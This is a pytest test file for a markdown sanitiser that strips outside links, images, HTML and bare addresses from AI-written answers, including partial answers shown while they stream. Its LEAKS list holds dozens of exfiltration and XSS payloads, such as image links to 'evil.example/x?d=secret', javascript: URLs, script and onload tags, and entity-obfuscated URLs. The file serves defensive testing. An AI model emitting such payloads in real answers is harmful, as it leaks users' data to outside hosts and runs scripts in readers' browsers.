"""Nothing in an answer loads or leads out of it, in any part of it that is shown."""

import re
import time

import pytest

from core.answer.markers import decided_end, tidy_markers
from core.answer.safe_markdown import safe_markdown

EVIL = "https://evil.example/x?d=secret"


LEAKS = [
    f"![a]({EVIL})",
    f"![a]( <{EVIL}> 'title')",
    f"![a\n]({EVIL})",
    f"[click here]({EVIL})",
    f"[![a]({EVIL})]({EVIL})",
    f"[[![a]({EVIL})]({EVIL})]({EVIL})",
    f"![a][ref]\n\n[ref]: {EVIL}",
    f"[ref]\n\n[ref]:\n  <{EVIL}>",
    f"[1]\n\n[1]: {EVIL} 'title'",
    f"> [1]: {EVIL}",
    f'<img src="{EVIL}">',
    f"<img src={EVIL} onerror=alert(1)>",
    f'<a href="{EVIL}">here</a>',
    f"<{EVIL}>",
    f"see {EVIL} now",
    "see www.evil.example/x?d=secret now",
    "![a](//evil.example/x)",
    "[a](javascript:alert(1))",
    "[a](data:text/html;base64,AAAA)",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<!-- hidden -->",
    f"![a\\]]({EVIL})",
    f"!\u200b[a]\u200b({EVIL})",
    f"![a]\u2060({EVIL})",
    f"[x](https://ok.example/page) ![a]({EVIL})",
    "https&#58;//evil.example/x?d=secret",
    "https&colon;//evil.example/x?d=secret",
    "&#x68;ttps:&sol;&sol;evil.example/x?d=secret",
    "https\\://evil.example/x?d=secret",
    "https:\\/\\/evil.example/x?d=secret",
    "www&#46;evil.example/x?d=secret",
    "www\\.evil.example/x?d=secret",
    "&#119;ww&period;evil.example/x?d=secret",
    "https://ok.example/page'SECRET",
    'https://ok.example/page"SECRET',
    "https://ok.example/page)SECRET",
    "https://ok.example/page“SECRET",
    "https://ok.example/page?d=SECRET",
    "https://ok.example/page/SECRET",
    "https://ok.example/page”www.evil.example/x?d=secret",
    "_https://evil.example/x?d=secret_",
    "1https://evil.example/x?d=secret",
    "secret@evil.example",
    "secret&#64;evil.example",
    "secret\\@evil\\.example",
    "secret@evil&period;example",
    "mailto:secret@evil.example",
    "xmpp:secret@evil.example/chat",
    "<secret@evil.example>",
    "<1@evil.example>",
    "<#$@evil.example>",
    "<mailto:secret@evil.example>",
    "<x+y://evil.example/secret>",
    "[a](//evil.example/x?d=secret)",
    "[a](ftp://evil.example/x?d=secret)",
    "[a](mailto:secret@evil.example)",
    "- [1]: //evil.example/secret",
    "1. > [ref]: /evil.example/secret\n\n[ref]",
    "[re\nf]: //evil.example/secret\n\n[re f]",
    "&#&#53;8;//evil.example https&#&#53;8;//evil.example/x?d=secret",
    "https&#5![](x)8;//evil.example/x?d=secret",
    "ht![](x)tps://evil.example/x?d=secret",
    "w![](x)ww.evil.example/x?d=secret",
    "sec[ret](x)@evil.example",
    "https&ZeroWidthSpace;&colon;//evil.example/x?d=secret",
    "[<img src=//evil.example/secret>](https://ok.example/page)",
    '[a](https://ok.example/page "t](//evil.example/x?d=secret)")',
]


def loads_or_leads(markdown: str) -> list[str]:
    """Every address that a CommonMark reader (with HTML and bare links switched on) would load or link to."""
    from markdown_it import MarkdownIt

    found: list[str] = []
    bare = r"(?<![a-zA-Z])https?://[^\s<]+|(?:(?<![^\W_])|(?<=\d))www\.[^\s<]+|[-.\w+]+@[-\w]+(?:\.[-\w]+)+"
    for block in MarkdownIt("commonmark", {"html": True}).enable(["table"]).parse(markdown):
        for token in [block, *(block.children or [])]:
            found += [str(token.attrs[name]) for name in ("src", "href") if name in token.attrs]
            found += [token.content] if token.type in ("html_block", "html_inline") else []
        # Neighbouring pieces of text are one text to a reader that looks for bare addresses, escapes undone.
        pieces = "".join(child.content if "text" in child.type else "\n" for child in block.children or [])
        found += [address.rstrip("!?.,:;*_~'\")") for address in re.findall(bare, pieces)]
    return found


def test_the_leaks_are_leaks() -> None:
    assert sum(bool(loads_or_leads(leak)) for leak in LEAKS) > len(LEAKS) * 0.8


@pytest.mark.parametrize("leak", LEAKS)
def test_nothing_loads_or_leads_out_in_any_beginning_of_an_answer(leak: str) -> None:
    sources = "See https://ok.example/page for more."
    answer = f"Duty is 19 percent [1].\n\n{leak}\n\nThat is all."
    for end in range(len(answer) + 1):
        for complete in (False, True):
            shown = safe_markdown(answer[:end], sources, complete=complete)
            assert set(loads_or_leads(shown)) <= {"https://ok.example/page"}
    final = safe_markdown(answer, sources)
    assert "Duty is 19 percent [1]." in final
    assert final.endswith("That is all.")
    assert "evil.example/x?d" not in final


@pytest.mark.parametrize("leak", [*LEAKS, "A plain answer [1], [2] and 3 < 4 [note]."])
def test_what_was_shown_while_writing_is_never_taken_back(leak: str) -> None:
    answer = f"Duty is 19 percent [1]. And [more text\n\n{leak}\n\nThat is all, 5 [1, 2] [3] end."
    shown = ""
    for end in range(len(answer) + 1):
        safe = safe_markdown(answer[:end], complete=False)
        longer = tidy_markers(safe[: decided_end(safe)], 2)
        assert longer.startswith(shown) or len(longer) <= len(shown)
        shown = longer if longer.startswith(shown) else shown
    assert "Duty is 19 percent [1]." in shown


def test_links_of_the_documents_stay() -> None:
    sources = "Use the form at https://ok.example/form?a=1. Mail us."
    assert safe_markdown("[form](https://ok.example/form?a=1)", sources) == "[form](https://ok.example/form?a=1)"
    assert safe_markdown("See https://ok.example/form?a=1.", sources) == "See https://ok.example/form?a=1."
    assert safe_markdown("See <https://ok.example/form?a=1>.", sources) == "See https://ok.example/form?a=1."
    assert safe_markdown("[form](https://ok.example/form?a=1&d=secret)", sources) == "form"
    assert safe_markdown("[form](https://ok.exam)", sources) == "form"


@pytest.mark.parametrize(
    "plain",
    [
        "Duty is **19 %** for 3 < 4 and 5 > 2.",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "1. One [1]\n2. Two [2]",
        "`code` and *words*",
        "می\u200cخواهم",
        "👨\u200d👩\u200d👧 fine ❤\ufe0f",
        "# Heading\n\n- item",
    ],
)
def test_ordinary_markdown_is_left_alone(plain: str) -> None:
    assert safe_markdown(plain) == plain


@pytest.mark.parametrize(
    ("written", "sources", "safe"),
    [
        ("Ask help@ok.example.", "Mail help@ok.example!", "Ask help@ok.example."),
        ("Ask help@ok.example.", "Mail ahelp@ok.example!", "Ask ."),
        ("Ask lp@ok.example.", "Mail help@ok.example!", "Ask ."),
        ("5 kg @ 3 EUR, user@host", "", "5 kg @ 3 EUR, user@host"),
        ("**https://ok.example/a**", "https://ok.example/a", "**https://ok.example/a**"),
        ("“https://ok.example/a”.", "https://ok.example/a", "“<https://ok.example/a>”."),
        ("(https://ok.example/a).", "https://ok.example/a", "(https://ok.example/a)."),
        ("https://ok.example/a_(b)", "https://ok.example/a_(b)", "https://ok.example/a_(b)"),
        ("|https://ok.example/a|5 EUR|", "https://ok.example/a", "|<https://ok.example/a>|5 EUR|"),
        ("https://ok.example", "see https://ok.example/", "https://ok.example"),
        ("https://ok.example/", "https://ok.example/form", ""),
        (r"[form](https\://ok.example/form)", "https://ok.example/form", "[form](https://ok.example/form)"),
        (
            "1\\. no list, \\* no bullet, &lt;b&gt; &amp; a\\\\:b",
            "",
            "1\\. no list, \\* no bullet, &lt;b&gt; &amp; a\\\\:b",
        ),
    ],
)
def test_an_address_stays_where_it_stands_whole_in_the_sources(written: str, sources: str, safe: str) -> None:
    assert safe_markdown(written, sources) == safe
    assert safe_markdown(safe, sources) == safe


def test_what_is_nested_without_end_is_shown_as_plain_words() -> None:
    leak = "x"
    for _ in range(30):
        leak = f"![{leak}]({EVIL})"
    assert loads_or_leads(safe_markdown(leak)) == []


RUNS = [
    *(
        "a",
        "[",
        "]",
        "(",
        ")",
        "<",
        "!",
        "\\",
        "\\[",
        "[a](",
        "![",
        "&",
        "&#",
        "@",
        "a@",
        "a.",
        ".",
        "/",
        "www.",
        "`",
        " ",
    ),
    *("http://", "[a]:", "a@b.", "é", "[a][", "ht![](x)", "://", ":", "<http://a", "[a](  ", "a@b.c ", "\n", "\n>"),
]


@pytest.mark.parametrize("run", RUNS)
@pytest.mark.parametrize("complete", [True, False])
def test_the_time_grows_no_faster_than_the_text(run: str, complete: bool) -> None:
    def seconds(length: int) -> float:
        text = f"[a]({run * (length // len(run))}é"
        begun = time.process_time()
        safe_markdown(text, "https://ok.example/page", complete=complete)
        return time.process_time() - begun

    short, long = min(seconds(4_000) for _ in range(3)), min(seconds(32_000) for _ in range(3))
    assert long < 30 * (short + 0.002)
